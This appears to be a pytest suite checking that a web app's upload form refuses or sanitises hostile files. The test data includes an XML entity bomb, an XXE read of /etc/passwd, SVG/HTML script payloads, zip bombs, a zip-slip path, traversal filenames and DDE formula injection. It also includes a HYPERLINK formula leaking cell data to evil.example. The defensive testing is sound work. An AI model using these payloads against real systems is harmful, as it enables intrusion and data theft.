"""Hostile files sent through the form of a draft: refused in plain words, or made harmless."""

import zipfile
import zlib
from functools import partial
from io import BytesIO

import docx
import openpyxl
import pikepdf
import pytest
from PIL import Image

from ogi.platform.apart import clean_here
from ogi.platform.intake import open_intake
from ogi.postings.models import Attachment
from tests.postings.desk import Desk
from tests.support.office_files import (
    ID,
    PHONES,
    inside,
    make_docx,
    make_pdf,
    make_xlsx,
    save,
    with_part,
)
from tests.support.pages import Browser
from tests.support.rows import all_rows

pytestmark = [pytest.mark.usefixtures("_fixed_day"), pytest.mark.once]

LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
)
OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **more) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, form, **more)
    return out.getvalue()


def flood() -> bytes:
    """Return a small PNG whose head speaks of 1,600 million pixels."""
    head = picture("PNG")
    huge = head[:16] + (40_000).to_bytes(4) + (40_000).to_bytes(4) + head[24:]
    return huge[:29] + zlib.crc32(huge[12:29]).to_bytes(4) + huge[33:]


def nested_bomb() -> bytes:
    """Return a workbook with an archive inside an archive, both packed 1,000 to one."""
    data = b"\0" * 8_000_000
    for name in ("a.bin", "b.zip"):
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data * 8)
        data = out.getvalue()
    return with_part(make_xlsx(), "xl/media/image1.zip", data)


REFUSED = {
    "svg": ("图.svg", SVG, "不能上传"),
    "svg called png": ("图.png", SVG, "不能上传"),
    "html called jpg": ("照片.jpg", HTML, "不能上传"),
    "html that begins as a gif": ("照片.gif", b"GIF89a/*" + HTML, "不能上传"),
    "html that begins as a jpeg": ("照片.jpg", b"\xff\xd8\xff\xe0" + HTML, "打不开"),
    "html called pdf": ("a.pdf", HTML + b"%PDF-1.7", "不能上传"),
    "program called docx": ("a.docx", b"MZ" + b"\0" * 300, "不能上传"),
    "pixel flood": ("照片.png", flood(), "5000 万像素"),
    "tiff": ("照片.tif", picture("TIFF"), "不能上传"),
    "cut-off photo": ("照片.jpg", picture(size=(600, 400))[:900], "打不开"),
    "zip bomb": (
        "表.xlsx", with_part(make_xlsx(), "xl/media/a.bin", b"\0" * 30_000_000), "压缩得不正常"
    ),
    "bare zip": ("a.zip", with_part(b"PK\5\6" + b"\0" * 18, "a.txt", b"a"), "不能上传"),
    "entity bomb": ("a.docx", with_part(make_docx(), "word/document.xml", LAUGHS), "不正常的内容"),
    "entity from outside": (
        "a.xlsx", with_part(make_xlsx(), "xl/workbook.xml", OUTSIDE), "不正常的内容"
    ),
    "macro": ("a.xlsx", with_part(make_xlsx(), "xl/vbaProject.bin", b"x"), "有宏"),
    "control": ("a.docx", with_part(make_docx(), "word/activeX/activeX1.xml", b"<a/>"), "有宏"),
    "object": ("a.docx", with_part(make_docx(), "word/embeddings/ole1.bin", OLE), "有宏"),
    "zip slip": ("a.docx", with_part(make_docx(), "../../etc/cron.d/x", b"x"), "不正常的内容"),
    "locked workbook": ("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "设了密码"),
    "locked pdf": ("a.pdf", make_pdf(encrypted=True), "设了密码"),
    "old word": ("a.doc", OLE + b"\0" * 600, "旧格式"),
    "empty": ("a.pdf", b"", "是空的"),
}  # fmt: skip


@pytest.fixture(autouse=True)
def _in_this_process(monkeypatch):
    """Spare each case a process of its own; tests/platform/test_apart.py has them."""
    quick = partial(open_intake, clean=clean_here)
    monkeypatch.setattr("ogi.platform.web.files.open_intake", quick)


@pytest.fixture
def desk(world) -> Desk:
    return Desk(world)


@pytest.fixture
def drafter(desk, browse_as) -> Browser:
    return browse_as("qingshan-yunling-drafter")


def kept_file(app, desk) -> tuple[Attachment, bytes]:
    """Return the only attachment, with the bytes of its copy."""
    (row,) = all_rows(desk.world, Attachment)
    held = open_intake(app.extensions["ogi_settings"].data_dir, row.township_id)
    return row, held.copies.read(row.storage_key)


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_and_what_was_typed_stays(app, desk, drafter, case):
    name, data, told = REFUSED[case]
    posting_id = desk.draft()
    sent = {"title": "三月账目", "rows-0-what": "卖树苗", "upload": (BytesIO(data), name)}
    page = drafter.submit(f"/postings/{posting_id}/edit", sent, expect=422)
    assert told in page.errors
    assert name in page.errors
    assert page.select("[name=title]")[0].get("value") == "三月账目"
    assert page.select("[name=rows-0-what]")[0].get("value") == "卖树苗"
    assert desk.read(posting_id).title == "三月账目"
    assert not all_rows(desk.world, Attachment)
    folder = app.extensions["ogi_settings"].data_dir
    assert not [one for part in ("files", "sealed") for one in (folder / part).rglob("?" * 64)]


def test_one_bad_file_among_good_ones_is_told_and_the_good_ones_are_kept(desk, drafter):
    posting_id = desk.draft()
    files = [(BytesIO(SVG), "图.svg"), (BytesIO(picture()), "照片.jpg")]
    page = drafter.submit(f"/postings/{posting_id}/edit", {"upload": files}, expect=422)
    assert "图.svg" in page.errors
    assert [row.name for row in all_rows(desk.world, Attachment)] == ["照片.jpg"]
    again = {"title": "改过的标题", "upload": (BytesIO(SVG), "图.svg")}
    drafter.submit(f"/postings/{posting_id}/edit", again, expect=422)
    assert desk.read(posting_id).title == "改过的标题"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../etc/passwd.jpg", "passwd.jpg"),
        ("/etc/shadow", "shadow.jpg"),
        ("%2e%2e%2fa.jpg", "%2e%2e%2fa.jpg"),
        ("a\u202egpj.exe", "agpj.jpg"),
        ("<script>alert(1)</script>.jpg", "script.jpg"),
    ],
)
def test_a_files_name_leads_nowhere(app, desk, drafter, name, shown):
    posting_id = desk.draft()
    drafter.submit(f"/postings/{posting_id}/edit", {"upload": (BytesIO(picture()), name)})
    row, data = kept_file(app, desk)
    assert row.name == shown
    assert data.startswith(b"\xff\xd8\xff")
    folder = app.extensions["ogi_settings"].data_dir
    strangers = [one for one in folder.rglob("*") if "passwd" in one.name or "win" in one.name]
    assert not strangers


def test_a_suspect_workbook_is_kept_as_a_harmless_copy(app, desk, drafter):
    book = openpyxl.load_workbook(BytesIO(make_xlsx()))
    sheet = book["公示"]
    sheet["A3"], sheet["A4"] = "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/"&A1,"点")'
    sheet["A5"], sheet["A6"] = "='C:\\[别的.xlsx]表'!A1", "=WEBSERVICE(A1)"
    data = with_part(save(book), "xl/externalLinks/externalLink1.xml", b"<ddeLink/>")
    posting_id = desk.draft()
    drafter.submit(f"/postings/{posting_id}/edit", {"upload": (BytesIO(data), "表.xlsx")})
    row, copy = kept_file(app, desk)
    shown = openpyxl.load_workbook(BytesIO(copy))
    assert shown.sheetnames == ["公示"]
    cells = [cell for line in shown["公示"].iter_rows() for cell in line]
    assert not [cell for cell in cells if cell.data_type == "f"]
    raw = inside(copy)
    for hidden in (b"cmd|", b"evil", b"externalLink", b"WEBSERVICE", b"comments", ID.encode()):
        assert hidden not in raw
    assert not [phone for phone in PHONES[1:9] if phone.encode() in raw]
    assert [one["masked"] for one in row.findings] == ["138****8000"]


def test_a_document_and_its_picture_lose_author_place_and_remarks(app, desk, drafter):
    exif = Image.Exif()
    exif[0x010F] = "PHONEMAKER"
    exif[0x8825] = {1: "N", 2: (30.0, 1.0, 2.0)}
    document = docx.Document(BytesIO(make_docx()))
    document.add_picture(BytesIO(picture(exif=exif)))
    posting_id = desk.draft()
    sent = {"upload": (BytesIO(save(document)), "说明.docx")}
    drafter.submit(f"/postings/{posting_id}/edit", sent)
    _, copy = kept_file(app, desk)
    raw = inside(copy)
    for hidden in ("PHONEMAKER", "孙七", "赵六", "王五", "批注", "docProps", PHONES[2]):
        assert hidden.encode() not in raw
    assert "插入的字".encode() in raw


def test_a_photo_loses_place_and_camera_on_its_way(app, desk, drafter):
    exif = Image.Exif()
    exif[0x010F] = "PHONEMAKER"
    exif[0x8825] = {1: "N", 2: (30.0, 1.0, 2.0)}
    data = picture(exif=exif, comment=b"13800138000")
    posting_id = desk.draft()
    drafter.submit(f"/postings/{posting_id}/edit", {"upload": (BytesIO(data), "现场.jpg")})
    row, copy = kept_file(app, desk)
    assert b"PHONEMAKER" not in copy
    assert b"13800138000" not in copy
    held = open_intake(app.extensions["ogi_settings"].data_dir, row.township_id)
    assert held.originals.open(row.original_key) == data


def test_a_pdf_loses_scripts_files_and_metadata(app, desk, drafter):
    posting_id = desk.draft()
    drafter.submit(f"/postings/{posting_id}/edit", {"upload": (BytesIO(make_pdf()), "表.pdf")})
    _, copy = kept_file(app, desk)
    with pikepdf.open(BytesIO(copy)) as pdf:
        assert set(pdf.Root.keys()) <= {"/Type", "/Pages"}
        assert not pdf.attachments
        assert "/Info" not in pdf.trailer
        assert "/Annots" not in pdf.pages[0]


def test_too_large_a_file_is_refused_beside_its_field(desk, drafter, monkeypatch):
    monkeypatch.setattr("ogi.platform.web.uploading.MOST_BYTES", 100_000)
    posting_id = desk.draft()
    files = [(BytesIO(picture() + b"\0" * 300_000), "大图.jpg"), (BytesIO(picture()), "小图.jpg")]
    sent = {"title": "三月账目", "upload": files}
    page = drafter.submit(f"/postings/{posting_id}/edit", sent, expect=422)
    assert "文件“大图.jpg”超过" in page.errors
    assert desk.read(posting_id).title == "三月账目"
    assert [row.name for row in all_rows(desk.world, Attachment)] == ["小图.jpg"]


def test_an_archive_inside_a_workbook_is_left_behind_unopened(app, desk, drafter):
    posting_id = desk.draft()
    drafter.submit(f"/postings/{posting_id}/edit", {"upload": (BytesIO(nested_bomb()), "表.xlsx")})
    _, copy = kept_file(app, desk)
    assert b"image1.zip" not in inside(copy)


def test_more_files_than_a_posting_may_have_are_refused(desk, drafter, monkeypatch):
    monkeypatch.setattr("ogi.postings.views.files.MOST_FILES", 2)
    posting_id = desk.draft()
    files = [(BytesIO(picture(size=(9 + n, 9))), f"{n}.jpg") for n in range(3)]
    page = drafter.submit(f"/postings/{posting_id}/edit", {"upload": files}, expect=422)
    assert "最多放 2 个附件" in page.errors
    assert len(all_rows(desk.world, Attachment)) == 2
